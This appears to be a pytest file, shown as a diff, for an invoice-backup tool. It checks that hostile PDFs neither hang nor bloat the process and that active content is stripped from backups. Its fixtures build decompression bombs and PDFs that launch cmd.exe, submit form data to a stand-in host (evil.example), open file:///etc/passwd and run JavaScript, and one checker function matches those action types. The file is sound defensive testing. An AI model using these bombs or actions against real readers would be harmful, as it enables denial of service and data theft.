@@ -1,0 +1,502 @@
+"""Resource limits and active content: hostile documents never hang, bloat or script a backup.
+
+Issue 7: "Resource limits with typed errors and documented defaults: a document with
+an absurd page count, a stream that inflates past a limit, deeply nested or cyclic
+object graphs, a page tree loop. The process must not hang or exhaust memory on any
+of them. Active content is removed from the backup: document and page JavaScript,
+OpenAction, Launch, SubmitForm and URI-to-file actions, embedded executables; a test
+reads the backup back to prove it."
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import time
+import tracemalloc
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject
+
+from invoicebackup import (
+    BackupOptions,
+    BackupResult,
+    BadDocumentError,
+    InMemoryStore,
+    compile_backup,
+)
+from invoicebackup.compile import MANIFEST_NAME
+from invoicebackup.testing import text_pdf
+
+from .pdf_craft import (
+    ATTACHMENT_KEY,
+    NOW,
+    USER_ID,
+    build_pdf,
+    every_object,
+    flate_bomb,
+    one_attachment,
+    page_count_of,
+    stream,
+)
+
+CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
+
+
+def _one_page(extra: bytes = b"", *, kids: bytes = b"[3 0 R]", count: int = 1) -> list[bytes]:
+    """Catalog, page tree and one page with *extra* in its dictionary."""
+    return [
+        CATALOG,
+        b"<< /Type /Pages /Kids " + kids + b" /Count %d >>" % count,
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]" + extra + b" >>",
+    ]
+
+
+def _compile(data: bytes, **options: object) -> tuple[BackupResult, bytes]:
+    project, store = one_attachment(data)
+    result = compile_backup(
+        project,
+        invoice_ids=["i-1"],
+        user_id=USER_ID,
+        store=store,
+        now=NOW,
+        options=BackupOptions(**options),  # type: ignore[arg-type]
+    )
+    backup = store.read_bytes(result.key)
+    assert page_count_of(backup) == result.page_count
+    return result, backup
+
+
+def _reported(result: BackupResult) -> str | None:
+    """The attachment's reported code, or None when it is in the backup."""
+    codes = [item.code for item in result.left_out if item.key == ATTACHMENT_KEY]
+    included = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
+    assert len(codes) + len(included) == 1
+    return codes[0] if codes else None
+
+
+# -- limits -----------------------------------------------------------------------------------
+
+
+def test_the_documented_limits_are_the_defaults() -> None:
+    """The limits the guarantees page documents are the options' defaults."""
+    options = BackupOptions()
+    assert options.max_document_pages == 10_000
+    assert options.max_document_bytes == 512 * 1024 * 1024
+
+
+@pytest.mark.timeout(30)
+def test_a_page_tree_with_more_pages_than_the_limit_is_too_large() -> None:
+    """10,001 pages (one page object listed 10,001 times) is over the default: too_large."""
+    n = 10_001
+    data = build_pdf(_one_page(kids=b"[" + b" 3 0 R" * n + b"]", count=n))
+    result, _ = _compile(data)
+    assert _reported(result) == "too_large"
+    with pytest.raises(BadDocumentError) as caught:
+        _compile(data, on_bad_document="fail")
+    assert (caught.value.key, caught.value.code) == (ATTACHMENT_KEY, "too_large")
+
+
+def test_max_document_pages_reports_a_longer_document_as_too_large() -> None:
+    """A three-page document with max_document_pages=2 is too_large, with the count in words."""
+    result, _ = _compile(text_pdf(["1", "2", "3"]), max_document_pages=2)
+    assert _reported(result) == "too_large"
+    assert "3 pages" in result.left_out[0].reason
+    result, _ = _compile(text_pdf(["1", "2", "3"]), max_document_pages=3)
+    assert _reported(result) is None
+
+
+def test_a_page_count_that_lies_is_never_believed() -> None:
+    """/Count claiming a billion pages over one real page: the backup holds the real page."""
+    result, _ = _compile(build_pdf(_one_page(count=999_999_999)))
+    if _reported(result) is None:
+        (source,) = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
+        assert source.pages == 1
+    assert result.page_count == 2
+
+
+def test_max_document_bytes_reports_a_bigger_document_as_too_large() -> None:
+    """A document over max_document_bytes is too_large before any parsing."""
+    data = text_pdf(["a page"])
+    result, _ = _compile(data, max_document_bytes=len(data) - 1)
+    assert _reported(result) == "too_large"
+
+
+@pytest.fixture(scope="module")
+def bomb() -> bytes:
+    """A few hundred bytes that inflate to 256 MiB through two Flate passes."""
+    return flate_bomb(inflated_mib=256)
+
+
+def _traced(data: bytes, **options: object) -> tuple[BackupResult, float, int]:
+    """Compile *data*; the result, the seconds taken and the peak traced memory in MiB."""
+    tracemalloc.start()
+    start = time.perf_counter()
+    try:
+        result, _ = _compile(data, **options)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    return result, time.perf_counter() - start, peak >> 20
+
+
+@pytest.mark.timeout(60)
+def test_a_flate_bomb_in_page_content_is_copied_without_being_inflated(bomb: bytes) -> None:
+    """A content stream inflating to 256 MiB is copied as is: fast, in little memory."""
+    assert len(bomb) < 64 * 1024
+    data = build_pdf(
+        [*_one_page(b" /Contents 4 0 R"), stream(b"/Filter [/FlateDecode /FlateDecode]", bomb)]
+    )
+    result, seconds, peak_mib = _traced(data)
+    assert _reported(result) is None
+    assert seconds < 10
+    assert peak_mib < 32
+
+
+def _object_stream_bomb(inflated_mib: int) -> bytes:
+    """A PDF 1.5 file whose page resources live in an object stream inflating to *inflated_mib*."""
+    header = b"5 0 "
+    inner = zlib.compressobj(9)
+    parts = [inner.compress(header + b"<< /ProcSet [/PDF] >>")]
+    parts += [inner.compress(bytes(1 << 20)) for _ in range(inflated_mib)]
+    parts.append(inner.flush())
+    packed = zlib.compress(b"".join(parts), 9)
+    objects = [
+        *_one_page(b" /Resources 5 0 R"),
+        stream(b"/Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode]" % 4, packed),
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+
+    def row(kind: int, field: int, generation: int) -> bytes:
+        return bytes([kind]) + field.to_bytes(4, "big") + generation.to_bytes(2, "big")
+
+    rows = [row(0, 0, 65535), *(row(1, o, 0) for o in offsets), row(2, 4, 0), row(1, xref, 0)]
+    table = b"".join(rows)
+    out += b"6 0 obj\n" + stream(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", table)
+    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+#: Run in a fresh process so that its peak resident memory is the compile's alone
+#: (the engines' C and C++ allocations included, which tracemalloc does not see).
+_MEASURE = """
+import resource, sys
+from tests.pdf_craft import NOW, USER_ID, one_attachment
+from invoicebackup import BackupOptions, compile_backup
+data = open(sys.argv[1], "rb").read()
+project, store = one_attachment(data)
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+result = compile_backup(project, invoice_ids=["i-1"], user_id=USER_ID, store=store, now=NOW,
+                        options=BackupOptions(repair=sys.argv[2] == "1"))
+after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+codes = [i.code for i in result.left_out if i.key == "docs/attachment.pdf"]
+print((after - before) // 1024, codes[0] if codes else "included")
+"""
+
+
+def _peak_growth_mib(data: bytes, tmp_path: Path, *, repair: bool) -> tuple[int, str]:
+    """Compile *data* in a child process: its peak memory growth in MiB, and the verdict."""
+    source = tmp_path / "bomb.pdf"
+    source.write_bytes(data)
+    done = subprocess.run(
+        [sys.executable, "-c", _MEASURE, str(source), "1" if repair else "0"],
+        cwd=Path(__file__).resolve().parents[1],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+    )
+    growth, verdict = done.stdout.split()
+    return int(growth), verdict
+
+
+@pytest.mark.timeout(150)
+@pytest.mark.parametrize(
+    "repair",
+    [
+        pytest.param(False, id="pypdf"),
+        pytest.param(
+            True,
+            id="repair",
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason=(
+                    "_pdf.py/_repair.py: with repair on (the default), an object stream that "
+                    "pypdf refuses to inflate past its limit is handed to pikepdf, which "
+                    "inflates all 256 MiB (peak memory grows by about 600 MiB for a 4 KiB "
+                    "file) and the document is then included; a bigger bomb exhausts memory"
+                ),
+            ),
+        ),
+    ],
+)
+def test_an_object_stream_that_inflates_past_the_limit_is_never_decoded_whole(
+    repair: bool, tmp_path: Path
+) -> None:
+    """An object stream inflating to 256 MiB is reported, and memory grows far less than that."""
+    data = _object_stream_bomb(256)
+    assert len(data) < 64 * 1024
+    growth, verdict = _peak_growth_mib(data, tmp_path, repair=repair)
+    assert growth < 200
+    assert verdict != "included"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "_pdf.py: a stream that inflates past the engine's decompression limit (pypdf's "
+        "LimitReachedError) is reported as 'damaged' with the engine's words, not as "
+        "'too_large' with a documented limit"
+    ),
+)
+def test_an_object_stream_that_inflates_past_the_limit_is_too_large() -> None:
+    """A stream inflating past the limit is too_large, like every other limit."""
+    result, _, _ = _traced(_object_stream_bomb(96), repair=False)
+    assert _reported(result) == "too_large"
+
+
+def _nested(kind: str, depth: int) -> bytes:
+    opening, closing = (b"[", b" ]") if kind == "array" else (b"<< /A ", b" >>")
+    return opening * depth + closing * depth
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("kind", ["array", "dict"])
+@pytest.mark.parametrize("depth", [151, 1_000, 100_000])
+def test_deep_nesting_is_damaged_without_hanging(kind: str, depth: int) -> None:
+    """Arrays or dictionaries nested deeper than the limit (150): damaged, quickly."""
+    start = time.perf_counter()
+    result, _ = _compile(build_pdf(_one_page(b" /X " + _nested(kind, depth))))
+    assert _reported(result) == "damaged"
+    assert time.perf_counter() - start < 20
+
+
+@pytest.mark.parametrize("kind", ["array", "dict"])
+def test_nesting_within_the_limit_is_included(kind: str) -> None:
+    """Nesting up to the limit is legitimate and the page goes in."""
+    result, _ = _compile(build_pdf(_one_page(b" /X " + _nested(kind, 140))))
+    assert _reported(result) is None
+
+
+@pytest.mark.timeout(30)
+def test_cyclic_objects_outside_the_page_tree_are_walked_once() -> None:
+    """Resources that reference themselves do not loop: the page goes in."""
+    objects = [*_one_page(b" /Resources 4 0 R"), b"<< /Me 4 0 R /Both [4 0 R 5 0 R] >>", b"[4 0 R]"]
+    result, _ = _compile(build_pdf(objects))
+    assert _reported(result) is None
+
+
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize(
+    "objects",
+    [
+        pytest.param(_one_page(kids=b"[3 0 R 2 0 R]", count=2), id="root-lists-itself"),
+        pytest.param(
+            [
+                CATALOG,
+                b"<< /Type /Pages /Kids [4 0 R] /Count 2 >>",
+                b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] >>",
+                b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
+            ],
+            id="kid-lists-its-ancestor",
+        ),
+        pytest.param(
+            [
+                CATALOG,
+                b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+                b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] >>",
+                b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R] /Count 1 >>",
+            ],
+            id="node-lists-itself",
+        ),
+    ],
+)
+def test_a_page_tree_loop_is_damaged_without_hanging(objects: list[bytes]) -> None:
+    """/Kids pointing back to an ancestor (or itself): damaged, never a hang."""
+    result, _ = _compile(build_pdf(objects))
+    assert _reported(result) == "damaged"
+
+
+# -- active content ---------------------------------------------------------------------------
+
+SCRIPT = "app.alert('pwned-by-invoice');"
+EXECUTABLE = b"MZ\x90\x00 this would be a Windows program"
+
+#: Actions that run code, leave the document or send data.
+ACTIVE_ACTIONS = frozenset(
+    {
+        "/JavaScript",
+        "/Launch",
+        "/SubmitForm",
+        "/ImportData",
+        "/GoToR",
+        "/GoToE",
+        "/Rendition",
+        "/Movie",
+        "/Sound",
+        "/RichMediaExecute",
+    }
+)
+
+
+def _active_pdf() -> bytes:
+    """One page carrying every kind of active content the backup must not carry."""
+    js = b"(" + SCRIPT.encode() + b")"
+    embedded = stream(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", EXECUTABLE)
+    objects = [
+        # 1 catalog: document JavaScript, OpenAction, catalog AA, embedded files, a form.
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R /DS 4 0 R >>"
+        b" /Names << /JavaScript << /Names [(init) 4 0 R] >>"
+        b" /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>"
+        b" /AcroForm << /Fields [10 0 R] >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        # 3 the page: page AA and five annotations.
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 4 0 R /C 4 0 R >>"
+        b" /Annots [7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R] >>",
+        b"<< /Type /Action /S /JavaScript /JS " + js + b" >>",
+        b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 6 0 R >> >>",
+        embedded,
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720]"
+        b" /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 660 300 680]"
+        b" /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640]"
+        b" /A << /S /URI /URI (file:///etc/passwd) >> >>",
+        # 10 a push button field/widget with actions of its own.
+        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /P 3 0 R"
+        b" /Rect [72 580 300 600] /A << /S /SubmitForm /F (https://evil.example/) >>"
+        b" /AA << /U 4 0 R /Fo 4 0 R >> >>",
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 540 90 560] /FS 5 0 R >>",
+        # 12 a link moving inside the document, chaining to JavaScript.
+        b"<< /Type /Annot /Subtype /Link /Rect [72 500 300 520]"
+        b" /A << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>",
+    ]
+    return build_pdf(objects)
+
+
+def _active_content_in(backup: bytes) -> Iterator[str]:
+    """Every piece of active content found in any object of *backup*, described."""
+    for obj in every_object(backup):
+        is_file = isinstance(obj, StreamObject) and obj.get("/Type") == "/EmbeddedFile"
+        if is_file and EXECUTABLE in obj.get_data():
+            yield "the embedded executable"
+        if isinstance(obj, (str, bytes)) and SCRIPT in str(obj):
+            yield f"the script text in {obj!r}"
+        if not isinstance(obj, DictionaryObject):
+            continue
+        if obj.get("/S") in ACTIVE_ACTIONS:
+            yield f"a {obj['/S']} action"
+        for key in ("/JS", "/AA", "/OpenAction"):
+            if key in obj:
+                yield f"a {key} entry"
+        if "/S" in obj and "/Next" in obj:  # an action chain (outline items have /Next too)
+            yield "a /Next entry"
+        if obj.get("/Subtype") == "/FileAttachment":
+            yield "a file attachment annotation"
+        uri = obj.get("/URI")
+        if obj.get("/S") == "/URI" and str(uri).strip().lower().startswith("file:"):
+            yield f"a URI action to {uri}"
+        names = obj.get("/Names")
+        names = names.get_object() if names is not None else None
+        if isinstance(names, DictionaryObject) and "/JavaScript" in names:
+            yield "a document JavaScript name tree"
+
+
+def _embedded_file_names(backup: bytes) -> list[str]:
+    found = []
+    for obj in every_object(backup):
+        if isinstance(obj, DictionaryObject) and "/EmbeddedFiles" in obj:
+            tree = obj["/EmbeddedFiles"].get_object()
+            assert isinstance(tree, DictionaryObject)
+            names = tree.get("/Names", ArrayObject())
+            found += [str(names[i]) for i in range(0, len(names), 2)]
+    return found
+
+
+def test_the_active_sample_is_hostile_before_compiling() -> None:
+    """The checker sees every piece of active content in the source itself (it can fail)."""
+    found = set(_active_content_in(_active_pdf()))
+    for expected in (
+        "a /JavaScript action",
+        "a /Launch action",
+        "a /SubmitForm action",
+        "a URI action to file:///etc/passwd",
+        "a /AA entry",
+        "a /OpenAction entry",
+        "a /Next entry",
+        "a file attachment annotation",
+        "a document JavaScript name tree",
+        "the embedded executable",
+    ):
+        assert expected in found
+
+
+@pytest.mark.parametrize("manifest", [False, True], ids=["bare", "with-manifest"])
+def test_the_backup_keeps_the_page_but_no_code_launch_submit_or_embedded_file(
+    manifest: bool,
+) -> None:
+    """Document/page JavaScript, OpenAction, AA, Launch, SubmitForm, embedded files: all gone."""
+    result, backup = _compile(_active_pdf(), embed_manifest=manifest)
+    assert _reported(result) is None
+    found = {f for f in _active_content_in(backup) if "URI action to file:" not in f}
+    assert found == set()
+    assert _embedded_file_names(backup) == ([MANIFEST_NAME] if manifest else [])
+    (source,) = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
+    assert source.removed, "what was removed is reported"
+
+
+def test_links_inside_the_document_survive_without_their_chained_script() -> None:
+    """The GoTo link stays (it moves inside the backup); only its /Next chain is cut."""
+    _, backup = _compile(_active_pdf(), embed_manifest=False)
+    links = [
+        obj
+        for obj in every_object(backup)
+        if isinstance(obj, DictionaryObject) and obj.get("/Subtype") == NameObject("/Link")
+    ]
+    actions = [link["/A"].get_object() for link in links if "/A" in link]
+    gotos = [
+        action
+        for action in actions
+        if isinstance(action, DictionaryObject) and action.get("/S") == NameObject("/GoTo")
+    ]
+    assert len(gotos) == 1
+    assert "/Next" not in gotos[0]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "_pdf.py: /URI is in _SAFE_ACTIONS whatever its target, so a URI action to "
+        "'file:///etc/passwd' (a local file) is copied into the backup"
+    ),
+)
+def test_a_uri_action_to_a_local_file_is_removed() -> None:
+    """A link whose URI opens a local file (file:) does not reach the backup."""
+    _, backup = _compile(_active_pdf(), embed_manifest=False)
+    assert [f for f in _active_content_in(backup) if "URI action to file:" in f] == []
+
+
+def test_the_active_sample_is_removed_when_it_is_the_invoice_itself() -> None:
+    """Active content is removed from the invoice's own PDF too, not only from attachments."""
+    project, _ = one_attachment(b"")
+    store = InMemoryStore({"docs/invoice.pdf": _active_pdf(), ATTACHMENT_KEY: text_pdf(["x"])})
+    result = compile_backup(
+        project,
+        invoice_ids=["i-1"],
+        user_id=USER_ID,
+        store=store,
+        now=NOW,
+        options=BackupOptions(embed_manifest=False),
+    )
+    backup = store.read_bytes(result.key)
+    found = {f for f in _active_content_in(backup) if "URI action to file:" not in f}
+    assert found == set()
+    assert page_count_of(backup) == result.page_count == 2
